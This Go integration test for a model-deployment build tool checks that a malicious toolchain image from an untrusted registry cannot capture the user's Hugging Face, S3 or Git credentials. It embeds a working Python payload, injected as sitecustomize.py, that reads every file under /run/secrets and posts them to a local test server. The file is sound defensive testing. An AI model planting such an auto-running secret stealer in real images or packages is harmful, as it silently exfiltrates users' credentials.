//go:build integration

package modelsource

import (
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/deployfile/deployfile/internal/testing/buildtest"
	"github.com/deployfile/deployfile/internal/testing/lab"
	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/remote"
)

// steals runs whenever the Python of an image starts, and sends what secrets there are.
const steals = `import os, urllib.request
found = ""
for directory, _, names in os.walk("/run/secrets"):
    for name in names:
        with open(os.path.join(directory, name)) as f:
            found += name + ": " + f.read()
if found:
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open("%s", data=found.encode(), timeout=20)
`

// stranger is somebody whose registry has a toolchain image that sends them secrets.
type stranger struct {
	// host is the registry's.
	host  string
	mutex sync.Mutex
	stole strings.Builder
}

func newStranger(t *testing.T) *stranger {
	t.Helper()
	s := &stranger{host: lab.StartRegistry(t).Host}
	url := serveAt(t, ownAddress(t), http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		s.mutex.Lock()
		defer s.mutex.Unlock()
		_, _ = io.Copy(&s.stole, r.Body)
	}))
	s.push(t, "python:3.11-slim", buildtest.LoadLayout(t, shared.Base))
	s.push(t, "toolchain:1", buildtest.WithFile(t, buildtest.LoadLayout(t, shared.Toolchain), "usr/lib/python3.11/sitecustomize.py", fmt.Sprintf(steals, url)))
	return s
}

func (s *stranger) push(t *testing.T, image string, img v1.Image) {
	t.Helper()
	r, err := name.ParseReference(s.host + "/" + image)
	if err == nil {
		err = remote.Write(r, img)
	}
	if err != nil {
		t.Fatal(err)
	}
}

// project is the stranger's, with a model that a source names.
func (s *stranger) project(t *testing.T, source string, files map[string]string) *lab.Project {
	t.Helper()
	p := tinyProject(t, source, files)
	p.Contexts = nil
	p.Edit(t, "Deployfile", "[environment]\n", fmt.Sprintf("[environment]\nbase = \"%s/python:3.11-slim\"\ntoolchain = \"%[1]s/toolchain:1\"\n", s.host))
	return p
}

// stolen reports whether the stranger got a credential since the last call.
func (s *stranger) stolen() bool {
	s.mutex.Lock()
	defer s.mutex.Unlock()
	defer s.stole.Reset()
	return slices.ContainsFunc([]string{"s3cr3t", "X-Amz-Signature", "Authorization"}, func(text string) bool { return strings.Contains(s.stole.String(), text) })
}

// TestToolchainOfAStranger locks and builds projects of somebody whose toolchain image steals
// secrets, as users who have credentials for where the model is. The toolchain gets none of
// them, and the image is the same.
func TestToolchainOfAStranger(t *testing.T) {
	s, files := newStranger(t), tinyFiles(t)
	root := with(files, "README", "")
	weights := with(map[string]string{"MLmodel": referring, "requirements.txt": ""}, "model.safetensors", files["data/weights.bin"])
	n := lab.Loopback()
	n.Address = ownAddress(t)
	bucket, objects := startS3(t, n)
	for name, text := range files {
		objects.put(t, "iris/"+name, []byte(text))
	}
	hub := startHub(t, ownAddress(t), files)
	forge := startForge(t, ownAddress(t), "", "s3cr3t", files)
	plain := with(files, "data/weights.bin", "")
	delete(plain, "data/weights.bin")
	repository := startForge(t, ownAddress(t), "", "s3cr3t", plain)
	for name, tt := range map[string]struct {
		source string
		files  map[string]string
		env    map[string]string
		// through says that the model passes through the client.
		through bool
	}{
		"hub":                {"hf://acme/private", root, map[string]string{"HF_ENDPOINT": hub, "HF_TOKEN": "s3cr3t"}, true},
		"hub without token":  {"hf://acme/iris", root, map[string]string{"HF_ENDPOINT": hub}, false},
		"S3":                 {"s3://models/iris", files, bucket.Env(), true},
		"Git LFS":            {"git+" + forge.URL, files, withoutConfiguration(t, "s3cr3t"), true},
		"git":                {"git+" + repository.URL, plain, withoutConfiguration(t, "s3cr3t"), false},
		"weights on the hub": {"model", nil, map[string]string{"HF_ENDPOINT": startHub(t, ownAddress(t), weights), "HF_TOKEN": "s3cr3t"}, true},
	} {
		t.Run(name, func(t *testing.T) {
			model := tt.files
			if tt.source == "model" {
				model = map[string]string{"MLmodel": referring, "requirements.txt": ""}
			}
			p := s.project(t, tt.source, model)
			got, u := image(t, p, tt.env)
			if s.stolen() {
				t.Error("the toolchain image has the user's credential")
			}
			if moved := u.cached(t); (moved > 0) != tt.through {
				t.Errorf("%d bytes passed through the client", moved)
			}
			// As the builder makes it that fetches the model by itself.
			u = newUser(t, with(tt.env, "DEPLOYFILE_TRUST_TOOLCHAIN", "example.com/other, "+s.host+"/"))
			if want := u.build(t, p); want != got {
				t.Errorf("the image is %s, and that of a toolchain that is trusted %s", got, want)
			}
			if moved := u.cached(t); moved > 0 {
				t.Errorf("%d bytes passed through a client that trusts the toolchain", moved)
			}
			s.stolen()
		})
	}
}

// TestToolchainThatIsTrusted has the builder fetch the model, with the user's credential, if
// the user says so or gives the image.
func TestToolchainThatIsTrusted(t *testing.T) {
	s := newStranger(t)
	env := map[string]string{"HF_ENDPOINT": startHub(t, ownAddress(t), tinyFiles(t)), "HF_TOKEN": "s3cr3t"}
	p := s.project(t, "hf://acme/private", nil)
	if out, err := newUser(t, env).run(t, p, "lock"); err != nil {
		t.Fatalf("%v\n%s", err, lab.Tail(out))
	}
	for _, tt := range []struct {
		args    []string
		through bool
		want    string
	}{
		{nil, true, "--trust-toolchain " + s.host + "/toolchain\n"},
		{[]string{"--trust-toolchain", s.host + "/tool"}, true, "passes through this machine"},
		{[]string{"--trust-toolchain", s.host + "/toolchain"}, false, ""},
		{[]string{"--trust-toolchain", s.host + "/toolchain:1"}, true, "a lock pins a digest, whatever the tag"},
	} {
		u := newUser(t, env)
		out, err := u.run(t, p, append([]string{"build", "--locked", "--no-cache", "--no-verify"}, tt.args...)...)
		if failed := strings.HasPrefix(tt.want, "a lock pins"); (err != nil) != failed || !strings.Contains(out, tt.want) {
			t.Errorf("%q: %v, want %q:\n%s", tt.args, err, tt.want, lab.Tail(out))
		} else if moved := u.cached(t); !failed && (moved > 0) != tt.through {
			t.Errorf("%q: %d bytes passed through the client", tt.args, moved)
		}
		if stole := s.stolen(); stole == tt.through {
			t.Errorf("%q: the step has the credential: %t", tt.args, stole)
		}
	}
}
